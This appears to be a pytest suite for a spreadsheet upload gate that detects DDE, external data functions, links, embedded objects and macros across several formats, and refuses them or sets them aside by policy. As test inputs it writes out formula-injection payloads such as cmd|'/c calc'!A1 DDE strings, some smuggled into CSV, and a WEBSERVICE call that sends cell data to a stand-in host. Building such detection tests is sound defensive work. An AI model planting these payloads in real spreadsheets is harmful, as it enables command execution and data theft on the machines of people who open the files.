"""What runs, fetches or comes from elsewhere is found in every format, refused or set aside as the campaign says."""

from __future__ import annotations

import contextlib
import io
import struct
import time
from collections import Counter

import hostiles
import pytest
import xlwt
import yaml
from hostiles import CASE_ODS, formula, ods, table, xlsx_with
from python_calamine import CalamineError

from cartographie.intake import binary, gate
from cartographie.intake import gate as actifs
from cartographie.intake.gate import inspect
from cartographie.intake.workbook import read_workbook

TYPES = b'<Types><Override ContentType="application/vnd.ms-excel.%b"/></Types>'
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://x/%b" Target="%b" TargetMode="External"/></Relationships>'
)


def found(contenu: bytes, nom: str = "a.xlsx", **politique: str) -> list[str]:
    return [c.constat for c in inspect(contenu, nom, {}, politique).constats]


@pytest.mark.parametrize(
    ("contenu", "genre"),
    [
        (formula("cmd|'/c calc'!A1"), "dde"),
        (formula("MSEXCEL | &apos;\\..\\x.exe&apos; ! A1"), "dde"),
        (formula('DDE("soffice";"a";"b")'), "dde"),
        (xlsx_with(parties={"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}), "dde"),
        (formula('WEBSERVICE("http://x/"&amp;A1)'), "fonctions_externes"),
        (formula('_xlfn.WEBSERVICE ("http://x")'), "fonctions_externes"),
        (formula('RTD("a",,"b")'), "fonctions_externes"),
        (formula('REGISTER.ID("a","b")'), "fonctions_externes"),
        (formula("[1]Feuil1!A1"), "liaisons_externes"),
        (formula("&apos;C:\\[autre.xlsx]Feuil1&apos;!A1"), "liaisons_externes"),
        (xlsx_with(parties={"xl/connections.xml": b"<connections/>"}), "connexions"),
        (xlsx_with(parties={"xl/queryTables/queryTable1.xml": b"<queryTable/>"}), "requetes"),
        (xlsx_with(parties={"xl/activeX/activeX1.bin": b"\1"}), "activex"),
        (xlsx_with(parties={"xl/embeddings/oleObject1.bin": b"\1"}), "objets_incorpores"),
        (xlsx_with(parties={"xl/worksheets/_rels/sheet1.xml.rels": RELATION % (b"oleObject", b"file:///x")}), "objets_incorpores"),
        (xlsx_with(parties={"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros_excel4"),
        (ods(table(b'<table:table-row><table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;)"/></table:table-row>')), "dde"),
        (ods(table(b"<office:dde-source/>")), "dde"),
        (ods(table(b"<table:dde-link/>")), "dde"),
        (ods(table(b"<table:cell-range-source/>")), "requetes"),
        (ods(table(b"<table:database-source-sql/>")), "connexions"),
        (ods(table(b"<table:table-row><table:table-cell table:formula=\"of:='file:///x.ods'#$F.A1\"/></table:table-row>")), "liaisons_externes"),
        (ods(table(b""), b'<m><manifest:file-entry manifest:full-path="Object 1/" manifest:media-type="application/vnd.sun.star.oleobject"/></m>'), "objets_incorpores"),
        (formula("1</f></c><c r='B2'><f\nca='1'>cmd|'/c calc'!A1"), "dde"),
        (xlsx_with(parties={"xl/noms.xml": b"<x:definedName name='a'>cmd|'/c calc'!A1</x:definedName>"}), "dde"),
        (xlsx_with(parties={"xl/regles.xml": b"<formula1>WEBSERVICE(&quot;http://x&quot;)</formula1>"}), "fonctions_externes"),
        (ods(table(b'<draw:plugin xlink:href="a"/>').replace(b"<table:table ", b'<table:table xmlns:draw="d" ')), "objets_incorpores"),
        (b"a;b\n1;=cmd|' /C calc'!A0\n", "dde"),
        ("a;b\n1;@SUM(1+1)*cmd|'/C calc'!A0\n".encode("utf-16"), "dde"),
    ],
)  # fmt: skip
def test_refused_unless_the_campaign_sets_it_aside(contenu, genre):
    assert found(contenu) == [f"{genre}_refuse"]
    assert f"{genre}_ecarte" in found(contenu, **dict.fromkeys(actifs.DEFAUTS, "ecarter"))


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (xlsx_with(parties={"xl/vbaProject.bin": b"vba"}), "macros_ignorees"),
        (xlsx_with(parties={"XL/VBAPROJECT.BIN": b"vba"}), "macros_ignorees"),
        (xlsx_with(parties={"customUI/customUI.xml": b"<x/>"}), "macros_ignorees"),
        (ods(table(b""), parties={"Basic/Standard/Module1.xml": b"<x/>"}), "macros_ignorees"),
        (ods(table(b""), parties={"Scripts/python/a.py": b"x"}), "macros_ignorees"),
        (xlsx_with(parties={"customXml/item1.xml": b"<DataMashup/>"}), "power_query_ecarte"),
        (xlsx_with(parties={"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "liaisons_inutilisees_ecarte"),
        (xlsx_with(parties={"xl/worksheets/_rels/sheet1.xml.rels": RELATION % (b"hyperlink", b"http://x")}), "hyperliens_ecarte"),
        (formula('HYPERLINK("http://x","y")'), "hyperliens_ecarte"),
        (ods(table(b'<text:a xlink:href="http://x"/>')), "hyperliens_ecarte"),
        (ods(table(b'<draw:image xlink:href="http://x"/>').replace(b"<table:table ", b'<table:table xmlns:draw="d" ')), "hyperliens_ecarte"),
        (ods(table(b'<script:event-listener/>').replace(b"<table:table ", b'<table:table xmlns:script="s" ')), "macros_ignorees"),
    ],
)  # fmt: skip
def test_set_aside_and_said_unless_the_campaign_refuses_it(contenu, attendu):
    genre = "macros" if attendu == "macros_ignorees" else attendu.removesuffix("_ecarte")
    assert attendu in found(contenu)
    assert not inspect(contenu, "a.xlsx", {}).refuse
    assert found(contenu, **{genre: "refuser"}) == [f"{genre}_refuse"]


@pytest.mark.parametrize(
    "contenu",
    [
        formula("SUM(A1:B2)&amp;&quot;|cmd!&quot;"),
        formula("Table1[Colonne]*2"),
        formula("IF(A1=1,&quot;[1]x!&quot;,2)"),
        formula('HYPERLINK("#F!A1","y")'),
        xlsx_with(parties={"xl/worksheets/_rels/sheet1.xml.rels": RELATION % (b"hyperlink", b"mailto:a@b.fr")}),
        ods(table(b"<table:table-row>" + CASE_ODS + b"</table:table-row>")),
        ods(
            table(b'<draw:image xlink:href="Pictures/a.png"/>').replace(
                b"<table:table ", b'<table:table xmlns:draw="d" '
            )
        ),
        xlsx_with(parties={"xl/noms.xml": b"<definedName name='a'>F!$A$1:$B$2</definedName>"}),
        b"a;b\n-1;+2\n=x;| '!\n",
    ],
)
def test_ordinary_contents_are_not_suspected(contenu):
    assert [c for c in found(contenu) if c != "extension_trompeuse"] == []


def test_an_external_link_used_through_a_name_is_used():
    parties = hostiles.unzipped(formula("TAUX*2")) | {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    parties["xl/workbook.xml"] = parties["xl/workbook.xml"].replace(
        b"</workbook>", b'<definedNames><definedName name="TAUX">[1]F!$A$1</definedName></definedNames></workbook>'
    )
    assert found(hostiles.zipped(parties)) == ["liaisons_externes_refuse"]


def test_declared_types_count_as_much_as_names():
    for genre, mot in (("connexions", b"connections"), ("activex", b"activeX"), ("macros_excel4", b"macrosheet")):
        parties = hostiles.xlsx_parts()
        types = parties["[Content_Types].xml"]
        parties["[Content_Types].xml"] = types.replace(
            b"</Types>", b'<Override PartName="/xl/x.xml" ContentType="application/a.%b+xml"/></Types>' % mot
        )
        assert found(hostiles.zipped(parties | {"xl/x.xml": b"<x/>"})) == [f"{genre}_refuse"]


def record(genre: int, donnees: bytes) -> bytes:
    return struct.pack("<HH", genre, len(donnees)) + donnees


def book(chemin: str) -> bytes:
    return record(0x01AE, struct.pack("<HH", 1, len(chemin)) + b"\1" + chemin.encode("utf-16-le"))


FORMULE = bytes(22)


@pytest.mark.parametrize(
    ("flux", "attendu"),
    [
        (book("x\x03y"), {"dde": 1}),
        (book("\x01autre.xls"), {"liaisons_inutilisees": 1}),
        (book("\x01autre.xls") + record(0x0017, struct.pack("<H3H", 1, 0, 0, 0)) + record(6, FORMULE + b"\x3a\0\0"), {"liaisons_externes": 1}),
        (record(0x0876, b"\0" * 8), {"connexions": 1}),
        (record(0x01AD, b"\0" * 8), {"requetes": 1}),
        (record(0x0085, b"\0" * 5 + b"\1"), {"macros_excel4": 1}),
        (record(0x01B8, b"http://x"), {"hyperliens": 1}),
        (record(0x01B8, "mailto:a@b".encode("utf-16-le")), {}),
        (record(6, FORMULE + b"\x42\2\x96\0"), {"fonctions_externes": 1}),
        (record(6, FORMULE + b"\x42\2\x67\1"), {"hyperliens": 1}),
        (record(6, FORMULE + b"WEBSERVICE"), {"fonctions_externes": 1}),
        (record(0x01AE, b"\0\0")[:-1], {}),
    ],
)  # fmt: skip
def test_records_of_an_old_workbook(flux, attendu):
    assert binary.actives(flux + b"\0" * 4) == Counter(attendu)


def test_an_old_workbook_with_a_link_is_refused():
    sortie, classeur = io.BytesIO(), xlwt.Workbook()
    classeur.add_sheet("F").write(0, 0, xlwt.Formula('HYPERLINK("http://x";"y")'))
    classeur.save(sortie)
    assert found(sortie.getvalue(), "a.xls") == ["hyperliens_ecarte"]
    assert found(sortie.getvalue(), "a.xls", hyperliens="refuser") == ["hyperliens_refuse"]


def test_links_of_a_binary_workbook():
    parties = hostiles.xlsb_parts()
    for premier, attendu in ((b"\xe8\x02\x06\1\0", "dde_refuse"), (b"\xe8\x02\x06\0\0", "liaisons_inutilisees_ecarte")):
        contenu = hostiles.zipped(parties | {"xl/externalLinks/externalLink1.bin": premier + bytes(8)})
        assert found(contenu, "a.xlsb") == [attendu]


def test_every_kind_has_both_findings(racine):
    constats = yaml.safe_load((racine / "cartographie/survey/constats.yaml").read_text(encoding="utf-8"))
    for genre in actifs.DEFAUTS:
        assert constats[f"{genre}_refuse"]["gravite"] == "rejet_fichier"
        ecarte = "macros_ignorees" if genre == "macros" else f"{genre}_ecarte"
        assert constats[ecarte]["gravite"] == "alerte"


N = 200_000


@pytest.mark.parametrize(
    "contenu",
    [
        formula("a|" * N), formula("a|b" * N), formula("a " * N + "|"), formula("a|&apos;" * N), formula("&apos;[a]" * N),
        formula("[1]" * N), formula("[1]" + "a" * N), formula("CALL" + " " * N), formula("&quot;" * N),
        xlsx_with(b"<f " * N), xlsx_with(b"<f>" * N), xlsx_with(b"<c " * N), xlsx_with(b"<row " * N),
        xlsx_with(parties={"xl/a.rels": b"<Relationship External " * N}),
        xlsx_with(parties={"xl/workbook.xml2": b"<definedName name='a" * N, "xl/externalLinks/a.xml": b"<a/>"}),
        xlsx_with(parties={"xl/b.xml": b"<sst count=" * N}),
        ods(table(b"<text:a " * N)),
        ods(table(b""), b"<manifest:file-entry " * N),
        b"a;b|'!\n" + b"\n" * 5_000_000 + b"x", b"a;b|'!\n" + b" " * 5_000_000 + b"x", b"a|'" * N, b"=a|'" * N, b"=" * N + b"|'",
    ],
    ids=range(21 + 2),
)  # fmt: skip
def test_no_search_takes_more_than_linear_time(contenu):
    debut = time.process_time()
    gate.inspect(contenu, "a.xlsx", {"octets_total": 50_000_000, "ratio": 100_000})
    assert time.process_time() - debut < 5


def test_nor_does_the_reader():
    """Sheets the gate lets through although they are damaged: the reader's own searches stay linear too."""
    n = 100_000
    for rangees in (
        b'<c r="A1" t="e">' * n,
        b'<c r="' * n + b't="e"',
        b'<c r="A1"><f>' * n,
        b'<row hidden="1"' * n,
        b'<col hidden="1' * n,
    ):
        contenu = xlsx_with(rangees)
        porte = inspect(contenu, "a.xlsx", {"ratio": 100_000})
        debut = time.process_time()
        if not porte.refuse:
            with contextlib.suppress(CalamineError):
                read_workbook(contenu, porte)
        assert time.process_time() - debut < 5
